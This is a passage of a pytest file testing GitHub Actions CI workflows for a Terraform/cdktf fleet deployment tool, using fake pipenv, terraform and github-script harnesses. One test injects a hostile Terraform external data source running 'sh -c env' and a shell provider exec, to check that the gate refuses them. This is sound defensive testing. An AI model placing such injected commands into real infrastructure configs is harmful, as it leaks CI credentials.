        marker = step_with_id(job, "marker")["run"]
        assert "cd .gate-base && pipenv run python -c 'from fleet.gate.comment import MARKER" in marker


def test_judge_posts_the_comment_before_it_fails_on_the_gate(pr):
    job = pr["jobs"]["judge"]
    order = [s.get("id") or action_of(s) or s.get("name") for s in steps(job)]
    assert order.index("diff") < order.index("actions/github-script") < order.index("stacks")
    last = steps(job)[-1]
    assert last["if"] == (
        "steps.diff.outputs.exit_code != '0' || needs.phases.outputs.exit_code != '0' "
        "|| steps.diff.outputs.step_exit != '0'"
    )
    assert "exit 1" in last["run"]


def test_plan_job_is_a_matrix_over_the_changed_stacks(pr):
    job = pr["jobs"]["plan"]
    assert job["needs"] == "judge"
    assert job["if"] == "needs.judge.outputs.stacks != '[]'"
    assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.judge.outputs.stacks) }}"
    assert job["strategy"]["fail-fast"] is False
    assert job["env"]["STACK"] == "${{ matrix.stack }}"
    tf = step_using(job, "hashicorp/setup-terraform")["with"]
    assert str(tf["terraform_version"]) == "1.11.4" and tf["terraform_wrapper"] is False


def test_plan_compares_configuration_with_state_only(pr):
    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
    plans = [line for line in script.splitlines() if re.search(r"terraform .* plan ", line)]
    assert len(plans) == 1 and "-refresh=false" in plans[0] and "-lock=false" in plans[0]
    assert "apply" not in script


def test_a_refused_or_failed_plan_is_appended_with_its_outcome(pr):
    job = pr["jobs"]["plan"]
    append = step_using(job, "actions/github-script")
    assert append["if"] == "${{ !cancelled() && steps.inputs.outcome != 'skipped' }}"
    assert (
        append["env"]["PLAN_OUTCOME"] == "${{ steps.inputs.outcome == 'failure' && 'refused' || steps.plan.outcome }}"
    )
    assert step_with_id(job, "marker")["if"] == append["if"]
    assert step_with_id(job, "plan")["env"] == {"ACTION": "${{ steps.inputs.outputs.action }}"}


# --- the scripts, executed --------------------------------------------------------------------


def run_bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run a step's script as GitHub runs a `run:` without `shell:` (`bash -e {0}`: no pipefail),
    with the fakes first on PATH."""
    for name in ("github_output", "step_summary"):
        (cwd / name).touch()
    bin_dir = cwd / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name, body in (("pipenv", FAKE_PIPENV), ("npx", FAKE_NPX), ("terraform", FAKE_TERRAFORM)):
        (bin_dir / name).write_text(body)
        (bin_dir / name).chmod(0o755)
    full = {
        **os.environ,
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "REAL_PYTHON": sys.executable,
        "REAL_MARKER": MARKER,
        "GITHUB_OUTPUT": str(cwd / "github_output"),
        "GITHUB_STEP_SUMMARY": str(cwd / "step_summary"),
        "FAKE_LOG": str(cwd / "calls"),
        **env,
    }
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-c", script],
        cwd=cwd,
        env=full,
        capture_output=True,
        text=True,
        timeout=60,
    )


FAKE_PIPENV = r"""#!/usr/bin/env bash
# pipenv run python ...: logs "<cwd>\t<args>", then plays the fleet command the test asks for.
printf '%s\t%s\n' "$PWD" "$*" >> "$FAKE_LOG"
[ "$1 $2" = "run python" ] || { echo "fake pipenv: unexpected $*" >&2; exit 97; }
if [ "$3" = "-c" ]; then shift 2; exec "$REAL_PYTHON" "$@"; fi
# the real check of a synthesized stack (PYTHONPATH: this checkout, as the base's code)
if [ "$3 $4" = "-m fleet.gate.plan_inputs" ]; then shift 2; exec "$REAL_PYTHON" "$@"; fi
case " $* " in
  *" fleet validate "*) echo "../head/fleet.yaml: valid" ;;
  *" fleet plan "*)
    if [ "${FAKE_PHASES_EXIT:-0}" != 0 ]; then
      echo "${FAKE_PHASES_LINE:-../head/fleet.yaml: refused: services.web.targets.green: provisioning -> serving skips registered}" >&2
      exit "${FAKE_PHASES_EXIT}"
    fi
    echo "1. Move 50% of web's traffic to green" ;;
  *" fleet diff "*)
    prev=""
    for a in "$@"; do
      case "$prev" in
        --markdown-out) printf '%s\n## fleet diff\n' "$REAL_MARKER" > "$a" ;;
        --stacks-out) printf '%s' "${FAKE_CHANGED-shared
target-green
}" > "$a" ;;
      esac
      prev="$a"
    done
    exit "${FAKE_DIFF_EXIT:-0}" ;;
  *" fleet step "*)
    if [ -n "${FAKE_STEP_EXIT:-}" ]; then echo "${FAKE_STEP_ERROR:-refused}" >&2; exit "${FAKE_STEP_EXIT}"; fi
    cat "$FAKE_STEP" ;;
  *" fleet shift "*) echo "web: step 1 of 4 ..."; exit "${FAKE_SHIFT_EXIT:-0}" ;;
  *" fleet action "*)
    if [ -n "${FAKE_ACTION_ERROR:-}" ]; then echo "${FAKE_ACTION_ERROR}" >&2; exit 2; fi
    echo "${FAKE_ACTION:-deploy}" ;;
  *" fleet check "*)
    for stack in ${FAKE_FAILING:-}; do
      case " $* " in *" check ${stack} "*) echo "${stack}: target group unhealthy: 0 of 3 targets healthy"; exit 1 ;; esac
    done
    echo "ok" ;;
  *) echo "fake pipenv: unexpected $*" >&2; exit 98 ;;
esac
"""

FAKE_NPX = r"""#!/usr/bin/env bash
printf '%s\t%s\n' "$PWD" "npx $*" >> "$FAKE_LOG"
"""

FAKE_TERRAFORM = r"""#!/usr/bin/env bash
printf '%s\t%s\n' "$PWD" "terraform $*" >> "$FAKE_LOG"
case " $* " in
  *" show "*) echo "Plan: 1 to add, 0 to change, 0 to destroy." ;;
  *" plan "*) echo "Plan: 1 to add, 0 to change, 0 to destroy."; exit "${FAKE_PLAN_EXIT:-0}" ;;
esac
"""


def calls(cwd: Path) -> list[tuple[str, str]]:
    log = cwd / "calls"
    if not log.exists():
        return []
    return [tuple(line.split("\t", 1)) for line in log.read_text().splitlines()]


def commands(cwd: Path) -> list[str]:
    return [args for _, args in calls(cwd)]


def outputs(cwd: Path) -> dict[str, str]:
    """$GITHUB_OUTPUT as GitHub reads it: `name=value` lines and `name<<DELIMITER` blocks."""
    found: dict[str, str] = {}
    lines = iter((cwd / "github_output").read_text().splitlines())
    for line in lines:
        name, sep, value = line.partition("=")
        if "<<" in line and (not sep or "<<" in name):
            name, delimiter = line.split("<<", 1)
            block = []
            for inner in lines:
                if inner == delimiter:
                    break
                block.append(inner)
            else:
                raise AssertionError(f"{name}: no closing {delimiter}")
            found[name] = "\n".join(block)
        else:
            found[name] = value
    return found


@pytest.mark.parametrize("code", [0, 2])
def test_phases_script_runs_the_base_code_on_the_prs_file_and_remembers_the_code_and_text(tmp_path, pr, code):
    (tmp_path / ".gate-base").mkdir()
    (tmp_path / "head").mkdir()
    result = run_bash(step_with_id(pr["jobs"]["phases"], "phases")["run"], tmp_path, {"FAKE_PHASES_EXIT": str(code)})
    assert result.returncode == 0, "the phases step never fails: its refusal goes into the comment"
    out = outputs(tmp_path)
    assert out["exit_code"] == str(code)
    expected = ["run python -m fleet validate ../head/fleet.yaml", f"run {PHASES_COMMAND}"]
    assert calls(tmp_path) == [(str(tmp_path / ".gate-base"), c) for c in expected]
    text = (tmp_path / "phases.txt").read_text()
    assert ("refused: services.web.targets.green" in text) == (code != 0)
    assert out["text"].strip() == text.strip()


def test_a_phases_text_cannot_end_its_output_block_early(tmp_path, pr):
    """A refusal line is the PR's text: its own `EOF`-like line does not end the output."""
    (tmp_path / ".gate-base").mkdir()
    env = {"FAKE_PHASES_EXIT": "2", "FAKE_PHASES_LINE": "EOF\nphases-0\nexit_code=0"}
    result = run_bash(step_with_id(pr["jobs"]["phases"], "phases")["run"], tmp_path, env)
    assert result.returncode == 0
    out = outputs(tmp_path)
    assert out["exit_code"] == "2" and "exit_code=0" in out["text"]


def judge_env(**extra: str) -> dict[str, str]:
    return {
        "BASE_REF": "main",
        "STATE_MIGRATED": "",
        "PHASES_EXIT": "0",
        "PHASES_TEXT": "",
        "SYNTH_RESULT": "success",
        **extra,
    }


def judge_workspace(
    tmp_path: Path, step_markdown: str = "### On merge this runs\n\n1. `cdktf deploy target-green`\n"
) -> Path:
    for name in (".gate-base", "head", "head.out"):
        (tmp_path / name).mkdir()
    (tmp_path / "fleet-step.md").write_text(step_markdown)
    return tmp_path


@needs_jq
@pytest.mark.parametrize(("diff_code", "phases_code"), [(0, "0"), (1, "0"), (0, "2"), (0, "")])
def test_judge_scripts_remember_the_guard_and_output_a_json_array(tmp_path, pr, diff_code, phases_code):
    job = pr["jobs"]["judge"]
    judge_workspace(tmp_path)
    phases_text = "../head/fleet.yaml: refused: provisioning -> serving"
    env = judge_env(
        FAKE_DIFF_EXIT=str(diff_code),
        PHASES_EXIT=phases_code,
        PHASES_TEXT=phases_text if phases_code else "",
        FAKE_STEP=str(tmp_path / "fleet-step.md"),
    )
    diff = run_bash(step_with_id(job, "diff")["run"], tmp_path, env)
    assert diff.returncode == 0, diff.stderr
    assert outputs(tmp_path)["exit_code"] == str(diff_code)
    assert commands(tmp_path) == [
        "run python -m fleet diff --repo ../head --base origin/main --fleet fleet.yaml --head ../head.out "
        "--markdown-out ../diff.md --stacks-out ../stacks.txt",
        f"run {STEP_COMMAND}",
    ]
    assert {cwd for cwd, _ in calls(tmp_path)} == {str(tmp_path / ".gate-base")}, "the base's code only"
    comment = (tmp_path / "diff.md").read_text()
    assert comment.startswith(f"{MARKER}\n## fleet diff")
    assert (phases_text in comment) == (phases_code not in ("0", "")), "phase refusals go in"
    assert ("(no output)" in comment) == (phases_code == ""), "a phases job that said nothing says so"
    assert comment.endswith("### On merge this runs\n\n1. `cdktf deploy target-green`\n")
    stacks = run_bash(step_with_id(job, "stacks")["run"], tmp_path, {"DIFF_EXIT": str(diff_code)})
    assert stacks.returncode == 0, stacks.stderr
    assert json.loads(outputs(tmp_path)["stacks"]) == ["shared", "target-green"]
    failed = run_bash(steps(job)[-1]["run"], tmp_path, {"DIFF_EXIT": str(diff_code), "PHASES_EXIT": phases_code})
    assert failed.returncode == 1  # it runs only when an exit code is not '0'


def test_judge_says_when_fleet_step_refuses_the_merge(tmp_path, pr):
    judge_workspace(tmp_path)
    env = judge_env(FAKE_STEP_EXIT="2", FAKE_STEP_ERROR=LOCAL_STATE)
    result = run_bash(step_with_id(pr["jobs"]["judge"], "diff")["run"], tmp_path, env)
    assert result.returncode == 0, result.stderr
    comment = (tmp_path / "diff.md").read_text()
    section = comment[comment.index("### On merge this runs") :]
    assert "`fleet step` exited 2: the deploy would refuse this merge as it is; split the PR as it says." in section
    assert LOCAL_STATE in section
    assert outputs(tmp_path)["exit_code"] == "0" and outputs(tmp_path)["step_exit"] == "2"
    failed = run_bash(
        steps(pr["jobs"]["judge"])[-1]["run"], tmp_path, {"DIFF_EXIT": "0", "PHASES_EXIT": "0", "STEP_EXIT": "2"}
    )
    assert failed.returncode == 1, "a merge the step function refuses is refused by the gate"


def test_judge_without_the_prs_synth_judges_nothing_and_fails(tmp_path, pr):
    (tmp_path / ".gate-base").mkdir()
    env = judge_env(SYNTH_RESULT="failure")
    result = run_bash(step_with_id(pr["jobs"]["judge"], "diff")["run"], tmp_path, env)
    assert result.returncode == 0, result.stderr
    assert outputs(tmp_path)["exit_code"] == "2" and commands(tmp_path) == []
    assert "synth-head) did not succeed (failure)" in (tmp_path / "diff.txt").read_text()
    comment = (tmp_path / "diff.md").read_text()
    assert comment.startswith("`python -m fleet diff` exited 2:\n\n```text\nthe PR's synth (job synth-head) did not")
    assert "On merge this runs" not in comment
    stacks = run_bash(step_with_id(pr["jobs"]["judge"], "stacks")["run"], tmp_path, {"DIFF_EXIT": "2"})
    assert stacks.returncode == 2


@pytest.mark.parametrize("diff_code", [2, 3])
def test_judge_runs_no_step_when_fleet_diff_made_no_list(tmp_path, pr, diff_code):
    judge_workspace(tmp_path)
    env = judge_env(FAKE_DIFF_EXIT=str(diff_code))
    result = run_bash(step_with_id(pr["jobs"]["judge"], "diff")["run"], tmp_path, env)
    assert result.returncode == 0, result.stderr
    assert [c.split()[4] for c in commands(tmp_path)] == ["diff"], "no fleet step without the list"
    assert f"`python -m fleet diff` exited {diff_code}:" in (tmp_path / "diff.md").read_text()


@needs_jq
def test_judge_outputs_an_empty_array_when_nothing_changed(tmp_path, pr):
    (tmp_path / "stacks.txt").write_text("")
    result = run_bash(step_with_id(pr["jobs"]["judge"], "stacks")["run"], tmp_path, {"DIFF_EXIT": "0"})
    assert result.returncode == 0 and outputs(tmp_path)["stacks"] == "[]"


def test_judge_stacks_step_fails_on_an_error_other_than_the_guard(tmp_path, pr):
    result = run_bash(step_with_id(pr["jobs"]["judge"], "stacks")["run"], tmp_path, {"DIFF_EXIT": "2"})
    assert result.returncode == 2


@pytest.mark.parametrize("job_name", ["judge", "plan"])
def test_marker_step_prints_fleets_marker(tmp_path, pr, job_name):
    (tmp_path / ".gate-base").symlink_to(ROOT)
    result = run_bash(step_with_id(pr["jobs"][job_name], "marker")["run"], tmp_path, {"PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr
    assert outputs(tmp_path) == {"marker": MARKER}


def plan_workspace(tmp_path: Path, synth: Any, stack_id: str = "target-blue") -> Path:
    """`.gate-base/` (the base's code: this checkout, on PYTHONPATH), `head/fleet.yaml` and
    `head.out/`, the synth of examples/steady.yaml as synth-head uploads it."""
    (tmp_path / ".gate-base").mkdir()
    (tmp_path / "head").mkdir()
    shutil.copy(ROOT / "examples" / "steady.yaml", tmp_path / "head" / "fleet.yaml")
    shutil.copytree(synth.outdir("examples/steady.yaml"), tmp_path / "head.out")
    return tmp_path / "head.out" / "stacks" / stack_id


def inputs_env(stack_id: str, **extra: str) -> dict[str, str]:
    return {"STACK": stack_id, "PYTHONPATH": str(ROOT), **extra}


@pytest.mark.parametrize("action", ["destroy", "deploy"])
def test_pr_plan_inputs_step_decides_the_action_and_accepts_the_synth_with_the_base_code(tmp_path, pr, synth, action):
    plan_workspace(tmp_path, synth)
    result = run_bash(
        step_with_id(pr["jobs"]["plan"], "inputs")["run"], tmp_path, inputs_env("target-blue", FAKE_ACTION=action)
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert calls(tmp_path) == [
        (str(tmp_path / ".gate-base"), "run python -m fleet action target-blue ../head/fleet.yaml"),
        (str(tmp_path / ".gate-base"), "run python -m fleet.gate.plan_inputs ../head.out/stacks/target-blue"),
    ]
    assert "target-blue: accepted" in result.stdout
    assert outputs(tmp_path) == {"action": action}
    assert not (tmp_path / "plan.txt").exists()


def test_pr_plan_inputs_step_refuses_an_injected_exec_before_any_credential(tmp_path, pr, synth):
    stack_dir = plan_workspace(tmp_path, synth)
    config = json.loads((stack_dir / "cdk.tf.json").read_text())
    config["provider"]["kubernetes"][0]["exec"][0]["command"] = "sh"
    config["data"]["external"] = {"env": {"program": ["sh", "-c", "env"]}}
    (stack_dir / "cdk.tf.json").write_text(json.dumps(config))
    result = run_bash(step_with_id(pr["jobs"]["plan"], "inputs")["run"], tmp_path, inputs_env("target-blue"))
    assert result.returncode == 1
    refusals = (tmp_path / "plan.txt").read_text().splitlines()
    assert [line.split(": ")[:2] for line in refusals] == [
        ["target-blue", "provider.kubernetes[0].exec[0].command"],
        ["target-blue", "data.external"],
    ]
    assert outputs(tmp_path) == {}, "no action: the plan step never runs"


def test_pr_plan_inputs_step_refused_by_fleet_action_keeps_the_line_and_checks_nothing(tmp_path, pr, synth):
    plan_workspace(tmp_path, synth)
    env = inputs_env("target-blue", FAKE_ACTION_ERROR=LOCAL_STATE)
    result = run_bash(step_with_id(pr["jobs"]["plan"], "inputs")["run"], tmp_path, env)
    assert result.returncode == 1
    assert (tmp_path / "plan.txt").read_text().strip() == LOCAL_STATE
    assert commands(tmp_path) == ["run python -m fleet action target-blue ../head/fleet.yaml"]


@pytest.mark.parametrize(("action", "mode"), [("destroy", ["-destroy"]), ("deploy", [])])
def test_pr_plan_is_a_refresh_free_plan_of_the_artifact_and_a_destroy_plan_for_a_destroyed_stack(
    tmp_path, pr, action, mode
):
    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
    result = run_bash(script, tmp_path, {"STACK": "target-blue", "ACTION": action})
    assert result.returncode == 0, result.stdout + result.stderr
    chdir = "-chdir=head.out/stacks/target-blue"
    assert commands(tmp_path) == [
        f"terraform {chdir} init -input=false -no-color",
        " ".join(["terraform", chdir, "plan", "-input=false", "-no-color", "-refresh=false", "-lock=false", *mode]),
    ]
    assert "Plan: 1 to add" in (tmp_path / "plan.txt").read_text()


def test_pr_plan_fails_with_terraform_and_keeps_the_output(tmp_path, pr):
    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
    result = run_bash(script, tmp_path, {"STACK": "target-green", "ACTION": "deploy", "FAKE_PLAN_EXIT": "3"})
    assert result.returncode == 3, "pipefail: tee must not hide terraform's failure"
    assert "Plan: 1 to add" in (tmp_path / "plan.txt").read_text()


# A fake of what actions/github-script hands the script: github (REST + paginate), context, core.
NODE_HARNESS = r"""
const fs = require('fs');
const [scriptFile, stateFile] = process.argv.slice(2);
const state = JSON.parse(fs.readFileSync(stateFile, 'utf8'));
let nextId = 100;
const github = {
  paginate: async (fn, args) => (await fn(args)).data,
  rest: { issues: {
    listComments: async () => ({ data: state.comments.map((c) => ({ ...c })) }),
    createComment: async ({ body }) => { state.comments.push({ id: nextId++, body }); state.calls.push('create'); },
    updateComment: async ({ comment_id, body }) => {
      state.comments.find((c) => c.id === comment_id).body = body; state.calls.push('update');
    },
  } },
};
const context = {
  serverUrl: 'https://github.com', runId: 42, repo: { owner: 'acme', repo: 'fleet' }, issue: { number: 7 },
  payload: { pull_request: { head: { sha: '0123456789abcdef' } } },
};
const core = {
  failed: null, setFailed(m) { this.failed = m; }, warning() {}, info() {},
};
global.setTimeout = (fn) => fn();
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
const script = fs.readFileSync(scriptFile, 'utf8');
new AsyncFunction('github', 'context', 'core', 'require', script)(github, context, core, require)
  .then(() => { state.failed = core.failed; fs.writeFileSync(stateFile, JSON.stringify(state)); })
  .catch((e) => { console.error(e); process.exit(1); });
"""


def run_github_script(tmp_path: Path, script: str, comments: list[dict[str, Any]], env: dict[str, str]) -> dict:
    (tmp_path / "harness.js").write_text(NODE_HARNESS)
    (tmp_path / "script.js").write_text(script)
    state_file = tmp_path / "state.json"
    state_file.write_text(json.dumps({"comments": comments, "calls": []}))
    result = subprocess.run(
        ["node", "harness.js", "script.js", str(state_file)],
        cwd=tmp_path,
        env={**os.environ, "MARKER": MARKER, **env},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(state_file.read_text())


def github_script(pr: dict[str, Any], job: str) -> str:
    return step_using(pr["jobs"][job], "actions/github-script")["with"]["script"]


@needs_node
def test_diff_comment_is_created_once_then_updated_in_place(tmp_path, pr):
    script = github_script(pr, "judge")
    (tmp_path / "diff.md").write_text(f"{MARKER}\n## fleet diff\n\n`shared`: +1 target group\n")
    other = {"id": 1, "body": "LGTM"}
    state = run_github_script(tmp_path, script, [other], {"DIFF_EXIT": "0"})
    assert state["calls"] == ["create"]
    ours = state["comments"][1]
    assert ours["body"].splitlines()[0] == MARKER and "+1 target group" in ours["body"]
    assert ours["body"].count(MARKER) == 1
    ours["body"] += "\n<details>an old plan</details>"
    (tmp_path / "diff.md").write_text("## fleet diff\n\nno change\n")  # without the marker: added
    state = run_github_script(tmp_path, script, state["comments"], {"DIFF_EXIT": "1"})
    assert state["calls"] == ["update"] and len(state["comments"]) == 2
    assert state["comments"][0] == other
    body = state["comments"][1]["body"]
    assert body.startswith(f"{MARKER}\n") and "no change" in body and "an old plan" not in body


@needs_node
def test_diff_comment_says_so_when_fleet_diff_printed_nothing(tmp_path, pr):
    state = run_github_script(tmp_path, github_script(pr, "judge"), [], {"DIFF_EXIT": "2"})
    body = state["comments"][0]["body"]
    assert body.startswith(MARKER) and "printed nothing (exit code 2)" in body


@needs_node
def test_diff_comment_is_truncated_below_githubs_limit(tmp_path, pr):
    (tmp_path / "diff.md").write_text("x" * 200_000)
    state = run_github_script(tmp_path, github_script(pr, "judge"), [], {"DIFF_EXIT": "0"})
    body = state["comments"][0]["body"]
    assert body.startswith(MARKER) and len(body) <= 65536 and "truncated" in body


@needs_node
def test_plans_are_appended_to_the_marker_comment_and_truncated(tmp_path, pr):
    script = github_script(pr, "plan")
    comments = [{"id": 1, "body": "unrelated"}, {"id": 2, "body": f"{MARKER}\n## fleet diff\n"}]
    env = {"STACK_COUNT": "2", "PLAN_OUTCOME": "success"}
    (tmp_path / "plan.txt").write_text("\x1b[1mPlan:\x1b[0m 1 to add\n" + "~ change\n" * 20_000)
    state = run_github_script(tmp_path, script, comments, {**env, "STACK": "shared"})
    (tmp_path / "plan.txt").write_text("target-green: ```nested fence```\nPlan: 40 to add\n")
    state = run_github_script(tmp_path, script, state["comments"], {**env, "STACK": "target-green"})
    assert state["failed"] is None
    body = state["comments"][1]["body"]
    assert state["comments"][0]["body"] == "unrelated"
    assert body.startswith(f"{MARKER}\n## fleet diff\n") and len(body) <= 65536
    assert "<details><summary>terraform plan shared</summary>" in body and "\x1b" not in body
    assert "<details><summary>terraform plan target-green</summary>" in body and "Plan: 40 to add" in body
    assert "\n```text\n" in body  # the plain fence for shared
    assert "\n````text\n" in body  # a longer fence around a plan that holds ```
    assert "truncated" in body
    # a re-run of one plan job replaces its block instead of adding a second one
    state = run_github_script(tmp_path, script, state["comments"], {**env, "STACK": "target-green"})
    assert state["comments"][1]["body"].count("terraform plan target-green</summary>") == 1
    assert state["comments"][1]["body"].count("terraform plan shared</summary>") == 1


@needs_node
def test_a_failed_plan_is_appended_with_its_outcome(tmp_path, pr):
    (tmp_path / "plan.txt").write_text(LOCAL_STATE + "\n")
    comments = [{"id": 2, "body": f"{MARKER}\ndiff"}]
    env = {"STACK": "argocd-blue", "STACK_COUNT": "1", "PLAN_OUTCOME": "failure"}
    body = run_github_script(tmp_path, github_script(pr, "plan"), comments, env)["comments"][0]["body"]
    assert "**terraform plan failure.**" in body and LOCAL_STATE in body


@needs_node
def test_a_plan_without_the_marker_comment_fails_the_step(tmp_path, pr):
    (tmp_path / "plan.txt").write_text("Plan: 1 to add\n")
    env = {"STACK": "shared", "STACK_COUNT": "1", "PLAN_OUTCOME": "success"}
    state = run_github_script(tmp_path, github_script(pr, "plan"), [{"id": 1, "body": "LGTM"}], env)
    assert state["failed"] and MARKER in state["failed"] and state["calls"] == []


# --- deploy.yml -------------------------------------------------------------------------------


def slots(deploy: dict[str, Any]) -> list[str]:
    return [name for name in deploy["jobs"] if re.fullmatch(r"stack-\d+", name)]


def test_deploy_runs_on_a_push_of_the_fleet_file_to_main_and_on_dispatch(deploy):
    on = triggers(deploy)
    assert set(on) == {"push", "workflow_dispatch", "schedule"}
    assert on["push"] == {"branches": ["main"], "paths": ["fleet.yaml"]}
    inputs = on["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"stack"}, "deploy or destroy is the fleet file's word (phase destroyed)"
    assert inputs["stack"]["type"] == "string" and inputs["stack"]["required"] is True
    for word in ("shared", "argocd-<gen>", "target-<gen>", "destroyed"):
        assert word in inputs["stack"]["description"]


def test_one_concurrency_group_for_the_fleet_never_cancelled(docs, deploy):
    """Besides the fleet's group, a shift holds one per service (never cancelled: a cancelled
    shift would stop between two weight steps)."""
    assert deploy["concurrency"] == {"group": "fleet-deploy", "cancel-in-progress": False}
    assert deploy["jobs"]["shift"]["concurrency"] == {
        "group": "fleet-shift-${{ needs.step.outputs.shift }}",
        "cancel-in-progress": False,
    }
    for path, doc in docs.items():
        grouped = [name for name, job in doc["jobs"].items() if "concurrency" in job]
        assert grouped == (["shift"] if path == DEPLOY else []), path.name
    assert "concurrency" not in load(STACK), "the caller's group covers every stack"


def test_deploy_has_exactly_the_slots_the_pipeline_fills_each_after_the_one_before(deploy, stack):
    names_ = slots(deploy)
    assert names_ == [f"stack-{i}" for i in range(1, MAX_STACK_JOBS + 1)]
    assert set(deploy["jobs"]) == {"step", *names_, "shift", "checks", "deployed", "next-step"}
    for i, name in enumerate(names_, start=1):
        job = deploy["jobs"][name]
        assert job["uses"] == LOCAL_STACK_WORKFLOW
        assert as_list(job["needs"]) == (["step"] if i == 1 else ["step", f"stack-{i - 1}"])
        assert job["if"] == f"fromJSON(needs.step.outputs.count) >= {i}"
        assert job["with"] == {
            key: f"${{{{ fromJSON(needs.step.outputs.runs)[{i - 1}].{key} }}}}" for key in ("stack", "action")
        }
    assert set(triggers(stack)["workflow_call"]["inputs"]) == {"stack", "action"}


def test_the_slots_read_the_keys_fleet_step_prints(deploy):
    """Each slot's `with:` reads keys of `fleet step --json`'s runs: the keys deploy.yml names are
    exactly the keys a printed run has (a renamed key would feed the stack workflow empty inputs)."""
    head = load_fleet(ROOT / "examples/target-swap-1-provisioning.yaml")
    printed = merged_step(load_fleet(ROOT / "examples/steady.yaml"), head, ["shared", "target-green"]).as_json()
    assert set(printed) == {"title", "runs", "checks"}
    read = re.compile(r"\$\{\{ fromJSON\(needs\.step\.outputs\.runs\)\[(\d+)\]\.([a-z_]+) \}\}")
    for i, name in enumerate(slots(deploy)):
        found = {read.fullmatch(value) for value in deploy["jobs"][name]["with"].values()}
        assert None not in found, f"{name}: every input reads one key of one run"
        assert {int(m.group(1)) for m in found if m} == {i}, f"{name} reads run {i} only"
        keys = {m.group(2) for m in found if m}
        assert all(set(run) == keys for run in printed["runs"]), (name, keys, printed["runs"])


def stack_ids(path: Path) -> list[str]:
    fleet = load_fleet(path)
    return [names.SHARED_STACK, *(ref.stack_id for ref, _ in fleet.generations())]


@pytest.mark.parametrize("weight_steps", [(50, 100), DEFAULT_WEIGHT_STEPS], ids=["50-100", "default"])
@pytest.mark.parametrize("transition", sorted(TRANSITIONS), ids=lambda t: f"{t[0]}->{t[1]}")
def test_no_example_transition_needs_more_slots_than_the_deploy_workflow_has(deploy, transition, weight_steps):
    """The worst case: every stack of the head counted as changed (a step of the plan ignores the
    list; any other merge deploys at most the changed stacks, in the same order)."""
    base, head = (ROOT / f"examples/{name}.yaml" for name in transition)
    worst = merged_step(load_fleet(base), load_fleet(head), stack_ids(head), weight_steps)
    assert len(worst.runs) <= len(slots(deploy)) == MAX_STACK_JOBS
    if weight_steps == (50, 100):  # what tests/test_pipeline.py expects is within the worst case, in order
        remaining = iter(f"{run.action} {run.name}" for run in worst.runs)
        assert all(run in remaining for run in TRANSITIONS[transition][0]), worst.runs


def test_step_job_outputs_are_its_steps_outputs(deploy):
    job = deploy["jobs"]["step"]
    assert job["outputs"] == {k: f"${{{{ steps.step.outputs.{k} }}}}" for k in ("runs", "count", "shift", "checks")}
    step = step_with_id(job, "step")
    assert step["env"] == {
        "BEFORE": "${{ github.event.before }}",
        "DEPLOYED_TAG": "fleet-deployed",
        "STACK": "${{ inputs.stack }}",
        "EVENT": "${{ github.event_name }}",
    }
    assert step_using(job, "actions/checkout")["with"]["fetch-depth"] == 0, "fleet diff reads the base revision"


STEP_EXAMPLES = {
    # (base, head): the stacks whose synthesized JSON changed (what tests/test_pipeline.py synthesizes)
    ("steady", "target-swap-1-provisioning"): ["shared", "target-green"],  # not a step of the plan
    ("target-swap-4-drained", "target-swap-5-retiring"): ["shared", "argocd-blue"],
    ("hub-swap-2-promoted", "hub-swap-3-destroyed"): ["argocd-blue"],
}


@needs_jq
@pytest.mark.parametrize("transition", sorted(STEP_EXAMPLES), ids=lambda t: f"{t[0]}->{t[1]}")
def test_step_script_writes_what_fleet_step_prints(tmp_path, deploy, transition):
    base, head = (load_fleet(ROOT / f"examples/{name}.yaml") for name in transition)
    changed = STEP_EXAMPLES[transition]
    printed = merged_step(base, head, changed, (50, 100)).as_json()
    assert [f"{r['action']} {r['stack']}" for r in printed["runs"]] == TRANSITIONS[transition][0]
    assert printed["checks"] == TRANSITIONS[transition][1]
    (tmp_path / "fleet-step.json").write_text(json.dumps(printed, indent=2))
    before = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
    env = {
        "EVENT": "push",
        "BEFORE": before,
        "STACK": "",
        "FAKE_STEP": str(tmp_path / "fleet-step.json"),
        "FAKE_CHANGED": "".join(f"{s}\n" for s in changed),
    }
    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert commands(tmp_path) == [
        f"run python -m fleet diff --base {before} --stacks-out changed.txt --state-migrated",
        f"run python -m fleet step --base {before} --changed changed.txt --json",
    ]
    out = outputs(tmp_path)
    assert json.loads(out["runs"]) == printed["runs"]
    assert int(out["count"]) == len(printed["runs"])
    assert out["shift"] == "", "no shift job"
    assert json.loads(out["checks"]) == printed["checks"]
    summary = (tmp_path / "step_summary").read_text().splitlines()
    assert summary == [f"### {printed['title']}"] + [f"1. `cdktf {r['action']} {r['stack']}`" for r in printed["runs"]]
    assert (tmp_path / "changed.txt").read_text().split() == changed, "what fleet step reads"


SHIFT_STEP = ("target-swap-shift-0-ready", "target-swap-shift")
"""The one PR of a shift (examples/target-swap-shift-0-ready.yaml -> examples/target-swap-shift.yaml)."""


@needs_jq
def test_a_shift_step_goes_to_the_shift_job_and_no_slot(tmp_path, deploy):
    base, head = (load_fleet(ROOT / f"examples/{name}.yaml") for name in SHIFT_STEP)
    printed = merged_step(base, head, ["shared"]).as_json()
    assert printed["runs"] == [{"action": "shift", "service": "web"}]
    (tmp_path / "fleet-step.json").write_text(json.dumps(printed, indent=2))
    env = {"EVENT": "push", "BEFORE": "0" * 40, "STACK": "", "FAKE_STEP": str(tmp_path / "fleet-step.json")}
    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
    assert result.returncode == 0, result.stdout + result.stderr
    out = outputs(tmp_path)
    assert (json.loads(out["runs"]), out["count"], out["shift"]) == ([], "0", "web")
    assert json.loads(out["checks"]) == ["python -m fleet check target-green"]
